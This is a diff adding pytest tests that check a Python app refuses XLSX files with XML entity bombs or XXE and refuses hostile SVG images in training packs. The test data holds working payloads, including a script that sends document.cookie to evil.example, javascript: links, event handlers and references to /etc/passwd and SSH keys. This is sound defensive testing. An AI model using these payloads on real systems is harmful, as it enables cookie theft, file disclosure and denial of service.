@@ -407,3 +407,97 @@ def test_cli_erase_without_clear_notes_says_what_is_left(store, district, capsys
     out = capsys.readouterr().out
     assert "left as it was" in out and "canvas card" in out
     assert get_stakeholder(store, coop)["notes"].startswith("Call Maria Rossi")
+
+
+# -- 10. XML that expands, reaches out or runs ------------------------------------------------
+
+def test_defusedxml_is_a_dependency_and_openpyxl_uses_it():
+    import tomllib
+    from pathlib import Path
+
+    import openpyxl
+    import openpyxl.xml
+
+    pyproject = tomllib.loads((Path(__file__).resolve().parent.parent / "pyproject.toml").read_text("utf-8"))
+    assert any(d.startswith("defusedxml") for d in pyproject["project"]["dependencies"])
+    assert openpyxl.DEFUSEDXML is True and openpyxl.xml.DEFUSEDXML is True
+
+
+LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
+    f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10)) + "]>")
+
+
+@pytest.mark.parametrize("attack", ["laughs", "external"])
+def test_an_xlsx_with_xml_entities_is_refused_without_expanding_or_fetching(tmp_path, attack):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-LINE")
+    doctype = LAUGHS if attack == "laughs" else f'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://{secret}">]>'
+    entity = "&lol9;" if attack == "laughs" else "&xxe;"
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    sheet = (f'<?xml version="1.0"?>{doctype}<worksheet xmlns="{main}"><sheetData><row>'
+             f'<c t="inlineStr"><is><t>Name</t></is></c><c t="inlineStr"><is><t>Category</t></is></c></row><row>'
+             f'<c t="inlineStr"><is><t>{entity}</t></is></c><c t="inlineStr"><is><t>x</t></is></c>'
+             "</row></sheetData></worksheet>")
+    path = tmp_path / "entities.xlsx"
+    path.write_bytes(raw_xlsx(sheet))
+    refused_quickly(path, "entities", seconds=5)
+
+
+def svg_pack(svg: bytes) -> bytes:
+    from tests.core.test_training import SLIDES, build
+
+    slides = SLIDES.replace("images/map.png", "images/picture.svg").encode()
+    return build(extra={"images/picture.svg": svg, **{f"modules/mod_one/{lang}.md": slides for lang in LANGS}})
+
+
+LANGS = ("it", "de", "en")
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">{}</svg>'
+HOSTILE_SVGS = {
+    "script": '<script>fetch("http://evil.example/?" + document.cookie)</script>',
+    "namespaced script": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
+    "event attribute": '<rect width="5" height="5" onload="alert(1)"/>',
+    "event in capitals": '<rect width="5" height="5" ONCLICK="alert(1)"/>',
+    "foreignObject": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example"/>'
+                     "</foreignObject>",
+    "external image": '<image href="http://evil.example/track.png" width="5" height="5"/>',
+    "local file": '<image xlink:href="file:///etc/passwd" width="5" height="5"/>',
+    "relative file": '<image href="../../../.ssh/id_ed25519" width="5" height="5"/>',
+    "javascript link": '<a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a>',
+    "external use": '<use href="http://evil.example/sprites.svg#icon"/>',
+    "nested svg data": '<image href="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0Lz48L3N2Zz4=" width="5" height="5"/>',
+    "css url": '<rect width="5" height="5" style="fill: url(http://evil.example/x)"/>',
+    "style import": '<style>@import "http://evil.example/x.css";</style>',
+    "style url": '<style>rect { fill: URL( "http://evil.example/x" ) }</style>',
+    "animated href": '<a href="#ok"><set attributeName="href" to="javascript:alert(1)"/></a>',
+    "stylesheet PI": None,
+    "entity": None,
+}
+
+
+@pytest.mark.parametrize("kind", list(HOSTILE_SVGS))
+def test_a_pack_whose_svg_could_run_or_fetch_something_is_refused(kind):
+    from ssd_starter.core.training import PackRefused, ZipSource, read_pack
+
+    if kind == "stylesheet PI":
+        svg = '<?xml-stylesheet href="http://evil.example/x.css"?>' + SVG.format("<rect/>")
+    elif kind == "entity":
+        svg = '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + SVG.format("&e;")
+    else:
+        svg = SVG.format(HOSTILE_SVGS[kind])
+    with pytest.raises(PackRefused) as refused:
+        read_pack(ZipSource(svg_pack(svg.encode())))
+    assert "images/picture.svg" in refused.value.message()
+
+
+def test_a_plain_svg_with_internal_references_and_embedded_pictures_is_accepted():
+    from ssd_starter.core.training import ZipSource, read_pack
+    from ssd_starter.store.training import shipped_pack
+
+    pixel = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGAAAAAFAAE="
+    svg = SVG.format('<defs><linearGradient id="g"/></defs><rect width="5" height="5" fill="url(#g)"/>'
+                     f'<use href="#g"/><image xlink:href="{pixel}" width="1" height="1"/>'
+                     '<style>.c { fill: url(#g); stroke: #333 }</style>'
+                     '<a href="#g"><text x="1" y="1">Online: see url(http://centre.example)</text></a>')
+    pack = read_pack(ZipSource(svg_pack(('<?xml version="1.0" encoding="UTF-8"?>' + svg).encode())))
+    assert "images/picture.svg" in pack.images
+    assert shipped_pack().images  # the pictures shipped with the app pass the same check
